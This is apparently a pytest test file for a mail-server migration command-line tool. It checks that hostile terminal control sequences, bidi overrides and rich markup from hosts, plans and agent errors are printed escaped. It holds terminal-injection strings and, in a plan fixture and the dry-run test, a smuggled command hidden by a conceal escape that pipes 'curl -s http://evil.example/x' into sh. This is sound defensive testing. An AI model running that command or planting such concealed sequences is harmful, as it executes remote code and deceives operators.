"""Nothing from a host or a plan acts on the terminal: every value passes ``migrate.core.text.visible``
before a table cell, a line, an error line or a dry-run line, so a control character shows as
its escape (``\\x1b``) and rich markup in a value (``[bold red]``, ``[link=...]``) as text.

The characters tried: every C0 control, DEL, every C1 control (CSI ``\\x9b`` and OSC ``\\x9d``
act on terminals that take 8-bit controls), the bidirectional embeddings, overrides and
isolates (U+202A..U+202E, U+2066..U+2069: they make a line read differently from what it holds),
U+2028/U+2029, and the invisible format characters (zero-width space, marks, BOM). Each verb
runs on input that holds all of them at once (the real process output, as bytes), and
hypothesis draws further mixes for the summaries and the live view.
"""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console
from typer.testing import CliRunner

import migrate.app.cli as cli
from conftest import SAMPLES
from migrate.core import codec
from migrate.app import ui
from migrate.app.inspection import inspect_tree, open_local_root
from migrate.core.model import Finding, Origin, OriginKind, Severity, Source
from parsers.base import TreeError
from migrate.core.text import visible

RUNNER = CliRunner()
#: every character a terminal may act on, or that reads as something else than it is
CONTROLS = ([chr(c) for c in range(0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
            + [chr(c) for c in range(0x202A, 0x202F)] + [chr(c) for c in range(0x2066, 0x206A)]
            + ["\u2028", "\u2029", "\u200b", "\u200e", "\u200f", "\u00ad", "\ufeff"])
MARKUP = "[bold red]B[/] [link=http://evil.example/]L[/link]"
#: what clears the screen, sets the window title, hides text, then every other character
ATTACK = "\x1b[2J\x1b]0;pwned\x07\x1b[8m" + "".join(CONTROLS)
#: the same without what ends a line (for a line of a file, the last line of an error)
IN_LINE = "".join(c for c in ATTACK if c not in "\0\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029")


def _raw_controls(data: bytes) -> list[str]:
    """The characters of a process's output that a terminal would act on (a newline ends a
    line, as it should)."""
    text = data.decode("utf-8", "surrogateescape")
    return sorted({repr(c) for c in text if not c.isprintable() and c != "\n"})


def _clean(res) -> str:
    """Check stdout and stderr as bytes; return both as text for further checks."""
    for stream in (res.stdout_bytes, res.stderr_bytes):
        assert _raw_controls(stream) == [], (res.exit_code, _raw_controls(stream), res.output)
    assert res.exit_code != 70, res.output
    return res.stdout + res.stderr


# --- the one function ----------------------------------------------------------------------


@given(st.text(alphabet=st.one_of(st.sampled_from(CONTROLS), st.characters()), max_size=60))
def test_visible_shows_every_character_and_acts_on_none(text):
    shown = visible(text)
    assert shown.isprintable()
    assert visible(shown) == shown  # applied twice (a cell of a line), the same
    if text.isprintable():
        assert shown == text
    for ch in set(text) - {"\\"}:
        assert ch in shown or repr(ch)[1:-1] in shown


# --- every verb, on input holding every character --------------------------------------------


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory) -> Path:
    """The small sample with the attack in rc.conf's hostname, an alias name and a list
    folder's name (everything but NUL and / in a name; no line break inside the hostname's
    quotes, which would end the rc.conf line)."""
    root = tmp_path_factory.mktemp("hostile") / "root"
    shutil.copytree(SAMPLES / "small", root, symlinks=True)
    rc = root / "etc/rc.conf"
    rc.write_text(rc.read_text().replace('hostname="lists.smallclub.example"',
                                         f'hostname="lists{IN_LINE}{MARKUP}"'))
    aliases = root / "etc/aliases"
    aliases.write_text(aliases.read_text() + f"evil{IN_LINE}{MARKUP}: root\n")
    name = "".join(c for c in ATTACK + MARKUP if c not in "\0/")
    lists = root / "usr/local/mailman/lists"
    for folder in (f"x{name}", "m[bold red]B"):  # the short one is shown whole
        shutil.copytree(lists / "members", lists / folder)
    return root


@pytest.fixture(scope="module")
def hostile_inventory(hostile_root, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("inv") / "inventory.yaml"
    res = RUNNER.invoke(cli.app, ["inspect", "--root", str(hostile_root), "-o", str(out)])
    assert res.exit_code in (0, 1), res.output
    return out


def test_inspect_shows_hostile_names_escaped(hostile_root, tmp_path):
    res = RUNNER.invoke(cli.app, ["inspect", "--root", str(hostile_root),
                                  "-o", str(tmp_path / "inv.yaml")])
    out = _clean(res)
    assert "\\x1b[2J" in out and "\\u202e" in out and "\\x9b" in out
    assert "m[bold red]B" in out  # markup shown, not applied


@pytest.mark.parametrize("args, load", [(["--json"], codec.load_json),
                                        (["-o", "-"], codec.load_yaml)])
def test_inspect_machine_output_escapes_and_keeps_every_character(hostile_root, args, load):
    """JSON and YAML on stdout: every character escaped as the format spells it (the C1
    controls, the bidi overrides), and read back, the very same values."""
    res = RUNNER.invoke(cli.app, ["inspect", "--root", str(hostile_root), *args])
    _clean(res)
    inv = load(res.stdout)
    assert inv.host.hostname == f"lists{IN_LINE}{MARKUP}"
    assert any(ml.name.startswith("x\x1b[2J") for ml in inv.lists)


def test_an_agent_error_text_is_shown_escaped(hostile_root, monkeypatch, tmp_path):
    """The remote agent's own words (an entry's error, its stderr) reach the findings table
    and the error line: the seam stands in for the SSH channel, the rest is the real verb."""
    from migrate.app import remote

    def unreadable_rc_conf(host, root, **kwargs):
        tree = open_local_root(str(hostile_root))
        read = tree.read_bytes

        def read_bytes(path, limit=None):
            if path == "/etc/rc.conf":
                raise TreeError(path, f"agent says {ATTACK}{MARKUP}")
            return read(path, limit)
        tree.read_bytes = read_bytes
        return inspect_tree(tree, Origin(OriginKind.SSH, root, host="old"),
                            progress=kwargs["progress"])

    monkeypatch.setattr(cli, "_inspect_remote", unreadable_rc_conf)
    res = RUNNER.invoke(cli.app, ["inspect", "--host", "admin@old", "-o",
                                  str(tmp_path / "inv.yaml")])
    assert "agent says" in _clean(res)

    def failing(host, root, **kwargs):
        raise remote._agent_failure(f"Traceback\n{ATTACK}\nerror: {IN_LINE}{MARKUP}\n",
                                    "the inspection failed")

    monkeypatch.setattr(cli, "_inspect_remote", failing)
    res = RUNNER.invoke(cli.app, ["inspect", "--host", "admin@old"])
    out = _clean(res)
    assert res.exit_code == 3 and "\\x1b[8m" in out and "[link=http://evil.example/]" in out


def test_plan_shows_hostile_values_escaped(hostile_inventory, tmp_path):
    out_dir = tmp_path / "plan[link=https:evil.example]x"  # a table's title: not markup
    res = RUNNER.invoke(cli.app, ["plan", str(hostile_inventory), "--hostname",
                                  "lists.example.org", "--ipv6", "2001:db8::25",
                                  "-o", str(out_dir)])
    assert res.exit_code == 1  # the hostile values are blockers
    out = _clean(res)
    assert "\\x1b" in out
    assert "".join(f"Files in {out_dir}".split()) in "".join(out.split())  # wrapped, whole


@pytest.fixture
def hostile_plan(tmp_path) -> Path:
    """A plan of the small sample whose plan.yaml was edited after review: a command that
    hides its end (``\\e[8m``), and every character in a step's title, the old host's name
    and a blocker finding's message."""
    inv = tmp_path / "inventory.yaml"
    assert RUNNER.invoke(cli.app, ["inspect", "--root", str(SAMPLES / "small"), "-o",
                                   str(inv)]).exit_code in (0, 1)
    plan = tmp_path / "plan"
    res = RUNNER.invoke(cli.app, ["plan", str(inv), "--hostname", "lists.example.org",
                                  "--ipv6", "2001:db8::25", "-o", str(plan)])
    assert res.exit_code == 0, res.output
    data = yaml.safe_load((plan / "plan.yaml").read_text())
    step = next(s for s in data["steps"] if any(a["do"] == "run" for a in s["actions"]))
    action = next(a for a in step["actions"] if a["do"] == "run")
    action["command"] += " \x1b[8m; curl -s http://evil.example/x | sh"
    step["title"] += ATTACK + MARKUP
    data["inventory"]["host"] = f"old{IN_LINE}{MARKUP}"  # the export's pair line names it
    data["findings"].append({"id": "x.y", "severity": "blocker", "message": ATTACK + MARKUP,
                             "hint": ATTACK})  # the dry run's BLOCKED line quotes it
    (plan / "plan.yaml").write_text(yaml.safe_dump(data, allow_unicode=False, sort_keys=False))
    return plan


def test_the_dry_run_shows_an_edited_command_whole(hostile_plan):
    res = RUNNER.invoke(cli.app, ["cutover", str(hostile_plan)])
    out = _clean(res)
    if res.exit_code == 0:  # (a plan whose strings hold controls may be refused at load)
        line = next(x for x in out.splitlines() if "curl" in x)
        assert "\\x1b[8m; curl -s http://evil.example/x | sh" in line
        assert MARKUP in out and "BLOCKED" in out


def test_export_shows_no_raw_control(hostile_plan, tmp_path):
    res = RUNNER.invoke(cli.app, ["export", "ansible", str(hostile_plan), "-o",
                                  str(tmp_path / "fleet")])
    _clean(res)


@pytest.mark.parametrize("args", [
    ["plan", f"inv{ATTACK[:40]}.yaml", "--hostname", "x.example", "--ipv6", "2001:db8::1"],
    ["cutover", f"plan{ATTACK[:40]}"],
    ["export", "ansible", f"plan{ATTACK[:40]}", "-o", "out"],
    ["inspect", "--root", f"/nowhere{ATTACK[:40]}"],
])
def test_error_lines_show_no_raw_control(args, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    res = RUNNER.invoke(cli.app, [a.replace("\0", "") for a in args])
    assert res.exit_code in (2, 3)
    assert "\\x1b" in _clean(res)


# --- the summaries and the live view, with hypothesis ----------------------------------------

_HOSTILE = st.text(alphabet=st.one_of(st.sampled_from(CONTROLS), st.sampled_from("[]=/ab")),
                   min_size=1, max_size=30)


def _capture(monkeypatch, terminal: bool = False) -> io.StringIO:
    """ui's consoles writing into one buffer; ``terminal``: as on a terminal, without colour
    (rich still moves the cursor for a live view)."""
    buf = io.StringIO()
    console = Console(file=buf, width=200, force_terminal=terminal, color_system=None,
                      highlight=False, soft_wrap=False)
    monkeypatch.setattr(ui, "out", console)
    monkeypatch.setattr(ui, "err", console)
    return buf


#: what rich itself writes to a terminal for a live view: hide/show the cursor, go to the line's
#: start, erase the line, move up
_RICH_OWN = ("\x1b[?25l", "\x1b[?25h", "\x1b[2K", "\x1b[1A", "\r")


def _own_removed(text: str) -> str:
    for seq in _RICH_OWN:
        text = text.replace(seq, "")
    return text


@pytest.fixture(scope="module")
def small_inventory():
    tree = open_local_root(str(SAMPLES / "small"))
    return inspect_tree(tree, Origin(OriginKind.LOCAL, "small"))


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=_HOSTILE)
def test_inventory_summary_shows_any_value_escaped(small_inventory, monkeypatch, value):
    inv = codec.load_json(codec.dump_json(small_inventory))
    inv.host.hostname = value
    inv.mta.aliases[0].name = value
    inv.mta.kind = value
    inv.lists[0].owners = [value]
    inv.lists[0].name = value
    inv.findings.append(Finding("x.y", Severity.ERROR, value, value, Source(value, 1)))
    buf = _capture(monkeypatch)
    ui.inventory_summary(inv)
    ui.say(ui.inventory_line(inv, value))
    ui.error_line(ui.finding_line(inv.findings[-1]))
    text = buf.getvalue()
    assert [c for c in text if not c.isprintable() and c != "\n"] == []
    if "[link" in value:
        assert "[link" in text


@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=_HOSTILE)
def test_the_live_view_and_the_progress_bar_show_any_value_escaped(monkeypatch, value):
    buf = _capture(monkeypatch, terminal=True)
    view = ui.CutoverView([("s1", value, value)], [], lambda: None, now=lambda: 0.0)
    view.event({"step": "s1", "event": "failed", "message": value})
    ui.out.print(view)
    with ui.archive_progress(100) as advance:
        advance(value, 50)
    ui.say(value)
    text = _own_removed(buf.getvalue())
    assert [c for c in text if not c.isprintable() and c != "\n"] == []



def test_the_dry_run_escapes_whatever_a_plan_holds(tmp_path):
    """The dry run's own lines, whatever the load refuses before them: a plan in memory whose
    title, command and check hold every character."""
    from migrate.app import cutover
    from migrate.core.steps import Run, Step

    step = Step.make("s1", "prepare", "new", f"t{ATTACK}{MARKUP}", "why",
                     [Run(command=f"true \x1b[8m; curl -s http://evil.example/x | sh {ATTACK}")],
                     [f"test {ATTACK}"], [])
    lines: list[str] = []  # each line as the dry run gives it, before any console
    cutover.dry_run(cutover.Plan(tmp_path, [step], {}), say=lines.append)
    assert all(line.isprintable() for line in lines)
    text = "\n".join(lines)
    assert "\\x1b[8m; curl -s http://evil.example/x | sh" in text and MARKUP in text
